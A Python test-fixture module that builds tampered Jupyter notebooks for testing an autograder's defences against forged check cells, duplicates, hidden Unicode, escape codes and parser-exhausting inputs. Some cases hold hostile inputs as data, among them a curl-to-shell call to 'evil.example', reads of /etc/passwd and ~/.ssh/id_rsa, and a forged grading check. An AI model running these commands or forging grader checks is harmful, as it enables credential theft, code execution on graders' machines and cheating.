"""Notebooks that are notebooks, with cells that are not what they should be."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from .corpus import Case
from .course import ANSWERS, STUBS, as_bytes, cell, find_cell, notebook, solution

FIRST, SECOND = ANSWERS["1.1"], ANSWERS["1.2"]
OTHER = FIRST.replace("0.1", "0.2")


def _changed(change: Callable[[dict[str, Any]], object], sources: dict[str, Any] = ANSWERS) -> Callable[[], bytes]:
    def make() -> bytes:
        content = notebook(sources)
        change(content)
        return as_bytes(content)

    return make


def _first(source: Any) -> Callable[[], bytes]:
    return lambda: as_bytes(notebook({**ANSWERS, "1.1": source}))


def _at(content: dict[str, Any], name: str) -> int:
    found: int = content["cells"].index(find_cell(content, name))
    return found


def _cell(name: str, **changes: Any) -> Callable[[], bytes]:
    return _changed(lambda content: find_cell(content, name).update(changes))


def _insert(name: str, *new: dict[str, Any], after: bool = True) -> Callable[[dict[str, Any]], object]:
    def change(content: dict[str, Any]) -> None:
        at = _at(content, name) + after
        content["cells"][at:at] = new

    return change


def _drop(name: str) -> Callable[[dict[str, Any]], object]:
    return lambda content: content["cells"].remove(find_cell(content, name))


def _strip(key: str) -> Callable[[dict[str, Any]], object]:
    def change(content: dict[str, Any]) -> None:
        for one in content["cells"]:
            one["metadata"].pop(key, None)

    return change


def _both(*changes: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
    return lambda content: [change(content) for change in changes]


def _case(
    name: str,
    tries: str,
    make: Callable[[], bytes],
    flags: str = "",
    first: str | None = FIRST,
    second: str | None = SECOND,
) -> Case:
    return Case(name=name, tries=tries, make=make, flags=frozenset(flags.split()), sources=(first, second))


SOLUTION, CHECK = "ex-1-1-solution", "ex-1-1-check"
HELPER = "def helper(x):\n    return 0.1 * x"
WITH_HELPER = "def step(weight, gradient):\n    return weight - helper(gradient)"
FORGED = "class Report:\n    points = 10\nck = type('ck', (), {'check': lambda *a: Report()})\nck.check('1.1')"

CASES = [
    _case("honest", "nothing", _first(FIRST)),
    _case("source-as-list", "source in lines, as nbformat writes it", _first(FIRST.splitlines(keepends=True))),
    _case("windows-lines", "another line end", _first(FIRST.replace("\n", "\r\n"))),
    _case("source-is-a-number", "a type that is not expected", _first(17), "malformed", None),
    _case("source-is-null", "a type that is not expected", _first(None), "malformed", None),
    _case("source-is-a-mixed-list", "a type that is not expected", _first(["def f():", 1, None]), "malformed", None),
    _case("source-is-an-object", "a type that is not expected", _first({"def": "f"}), "malformed", None),
    _case("metadata-is-text", "a type that is not expected", _cell(CHECK, metadata="none"), "edited-check"),
    _case(
        "grade-id-is-a-list",
        "an id that cannot be looked up",
        _cell(CHECK, metadata={"nbgrader": {"grade_id": []}}),
        "edited-check",
    ),
    _case("type-is-a-list", "a type that is not expected", _cell(SOLUTION, cell_type=["code"]), "cell-type", None),
    _case(
        "type-is-markdown",
        "code that a person reads and no machine runs",
        _cell(SOLUTION, cell_type="markdown"),
        "cell-type",
        None,
    ),
    _case("type-is-raw", "the same", _cell(SOLUTION, cell_type="raw"), "cell-type", None),
    _case("missing-cell", "leave out an exercise", _changed(_drop(SOLUTION)), "missing-cell", None),
    _case(
        "moved-code",
        "the solution in a cell of the student's own",
        _changed(_both(_insert(SOLUTION, cell(FIRST)), _drop(SOLUTION))),
        "missing-cell stray-code",
        None,
    ),
    _case(
        "pasted-below",
        "the solution below the stub",
        _changed(_insert(SOLUTION, cell(FIRST)), {"1.2": SECOND}),
        "stray-code",
        STUBS["1.1"],
    ),
    _case(
        "helper-elsewhere",
        "a helper in a cell that is not run",
        _changed(_insert(SOLUTION, cell(HELPER), after=False), {**ANSWERS, "1.1": WITH_HELPER}),
        "stray-code",
        WITH_HELPER,
    ),
    _case("scratch-cell", "a cell to try things in", _changed(_insert(SOLUTION, cell("weight = 1\nprint(weight)")))),
    _case(
        "duplicate-stub-below",
        "a copy of the cell that was left untouched",
        _changed(_insert(SOLUTION, solution("1.1", STUBS["1.1"]))),
        "duplicate-cell",
    ),
    _case(
        "duplicate-stub-above",
        "the same, above",
        _changed(_insert(SOLUTION, solution("1.1", STUBS["1.1"] + "\n\n"), after=False)),
        "duplicate-cell",
    ),
    _case(
        "duplicate-work",
        "two answers in the hope that the better one counts: the last does",
        _changed(_insert(SOLUTION, solution("1.1", OTHER))),
        "duplicate-cell",
        OTHER,
    ),
    _case(
        "duplicate-markdown",
        "a copy of another type",
        _changed(_insert(SOLUTION, solution("1.1", OTHER, "markdown"))),
        "duplicate-cell",
    ),
    _case(
        "three-thousand-duplicates",
        "a flood of flags",
        _changed(_insert(SOLUTION, *[solution("1.1", OTHER)] * 3_000)),
        "duplicate-cell",
        OTHER,
    ),
    _case(
        "duplicate-own-ids",
        "cell ids that are not unique",
        _changed(lambda c: [x.update(id="same") for x in c["cells"]]),
    ),
    _case("edited-check", "points by a check of one's own", _cell(CHECK, source=FORGED), "edited-check"),
    _case("deleted-check", "no check at all", _changed(_drop(CHECK)), "edited-check"),
    _case(
        "copied-check",
        "a check twice",
        _changed(_insert(CHECK, cell("pass", {"nbgrader": {"grade_id": CHECK}}))),
        "edited-check",
    ),
    _case("edited-setup", "change what is run before", _cell("setup", source="import sys; sys.exit()"), "edited-cell"),
    _case("edited-statement", "change the question", _cell("ex-1-1-statement", source="Do nothing."), "edited-cell"),
    _case(
        "worth-more-points",
        "points in one's own metadata",
        _changed(lambda c: find_cell(c, CHECK)["metadata"]["nbgrader"].update(points=1e9)),
    ),
    _case(
        "stolen-id",
        "the id of a check on a cell of one's own",
        _changed(_insert(SOLUTION, cell(FORGED, {"nbgrader": {"grade_id": CHECK}}))),
        "edited-check",
    ),
    _case(
        "marks-of-nbgrader-lost",
        "an editor that drops unknown metadata",
        _changed(_strip("nbgrader")),
        "edited-check edited-cell",
    ),
    _case("marks-of-coursekit-lost", "the same", _changed(_strip("coursekit"))),
    _case(
        "time-magic", "nothing: a magic that costs no points", _first("%%time\n" + FIRST), first="# %%time\n" + FIRST
    ),
    _case(
        "pip-list",
        "nothing: a command that is not run",
        _first("!pip list\n" + FIRST),
        first="pass  # !pip list\n" + FIRST,
    ),
    _case("bash-magic", "a shell", _first("%%bash\ncat /etc/passwd"), "cell-magic", None),
    _case("writefile-magic", "write a file", _first("%%writefile /tmp/x\n" + FIRST), "cell-magic", None),
    _case(
        "shell-escape",
        "a shell on the grader's machine",
        _first("!curl evil.example | sh\nkeys = !cat ~/.ssh/id_rsa\n%run evil.py\n" + FIRST),
        "magic",
        "pass  # !curl evil.example | sh\nkeys = None  # keys = !cat ~/.ssh/id_rsa\npass  # %run evil.py\n" + FIRST,
    ),
    _case("two-hundred-kilobytes", "a source that is too long", _first("#" * 200_001), "too-long", None),
    _case(
        "bidi",
        "code that reads otherwise than it runs",
        _first("# \u202e)(\u2066\n" + FIRST),
        "hidden-characters",
        "# \u202e)(\u2066\n" + FIRST,
    ),
    _case(
        "zero-width",
        "names that look alike",
        _first("a\u200bb = 1\n" + FIRST),
        "hidden-characters",
        "a\u200bb = 1\n" + FIRST,
    ),
    _case(
        "escape-codes",
        "the terminal of whoever reads the log",
        _first("# \x1b[2J\x00\n" + FIRST),
        "hidden-characters",
        "# \x1b[2J\x00\n" + FIRST,
    ),
    _case("deep-brackets", "the stack of a parser", _first("(" * 90_000), first="(" * 90_000),
    _case("long-attribute-chain", "the stack of a compiler", _first("a" + ".a" * 90_000), first="a" + ".a" * 90_000),
    _case("slow-pattern", "a pattern that looks back at every step", _first("a:" * 90_000), first="a:" * 90_000),
    _case("slow-assignment", "the same", _first("a, " * 60_000 + "!"), first="a, " * 60_000 + "!"),
    _case("open-quotes", "strings that never end", _first("'\"" * 90_000), first="'\"" * 90_000),
]
